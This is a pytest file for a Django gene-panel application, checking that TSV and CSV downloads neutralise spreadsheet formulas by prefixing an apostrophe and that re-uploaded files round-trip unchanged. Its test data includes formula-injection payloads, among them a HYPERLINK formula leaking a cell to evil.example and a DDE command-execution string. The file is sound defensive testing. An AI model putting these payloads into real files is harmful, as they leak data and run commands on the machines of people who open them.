"""F12: no cell of a TSV or CSV download runs as a formula when opened in a spreadsheet."""

import csv
import io

import pytest

from panels.exports import HEADER
from panels.services.entities import EntityFields, get_entity, update_entity
from panels.spreadsheet import neutralise, restore

pytestmark = [pytest.mark.postgres, pytest.mark.django_db]

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3"]


def test_neutralise_and_restore_are_inverse():
    for value in [*FORMULAS, "plain", "'quoted", "", "\tx", "\rx"]:
        assert restore(neutralise(value)) == value
    assert [neutralise(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert neutralise("Intellectual disability") == "Intellectual disability"


@pytest.fixture
def panel(make_panel, curator):
    snapshot = make_panel("Formulas", genes=["BRCA1"])
    entity = get_entity(snapshot, "gene", "BRCA1")
    fields = EntityFields.from_entity(entity)
    fields.phenotypes = FORMULAS
    update_entity(snapshot, entity, curator, fields)
    return snapshot


def test_the_panel_download_prefixes_formula_cells_with_an_apostrophe(client, panel):
    content = client.get(f"/panels/{panel.panel_id}/download/01234/").content.decode()
    rows = list(csv.reader(io.StringIO(content), delimiter="\t"))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@"))]
    # The cell is the spreadsheet's unit: one apostrophe before the joined list.
    assert dict(zip(HEADER, rows[1], strict=True))["Phenotypes"] == "'" + ";".join(FORMULAS)


def test_the_activity_export_prefixes_formula_cells(client, panel, curator):
    from ..domain.conftest import add_str

    add_str(panel, curator, name="=1+1")
    client.force_login(curator)
    content = client.get("/panels/activity/", {"format": "csv"}).content.decode()
    cells = [cell for row in list(csv.reader(io.StringIO(content)))[1:] for cell in row]
    assert "'=1+1" in cells
    assert not [cell for cell in cells if cell.startswith(tuple("=+-@"))]


def test_a_download_with_formula_cells_uploads_back_unchanged(
    client, panel, curator, django_capture_on_commit_callbacks
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from panels.models import UploadedPanelList

    content = client.get(f"/panels/{panel.panel_id}/download/01234/").content
    client.force_login(curator)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/panels/upload/panel/", {"panel-file": SimpleUploadedFile("again.tsv", content)})
    upload = UploadedPanelList.objects.get()
    assert upload.status == "imported", upload.errors
    assert get_entity(panel, "gene", "BRCA1").phenotypes == FORMULAS
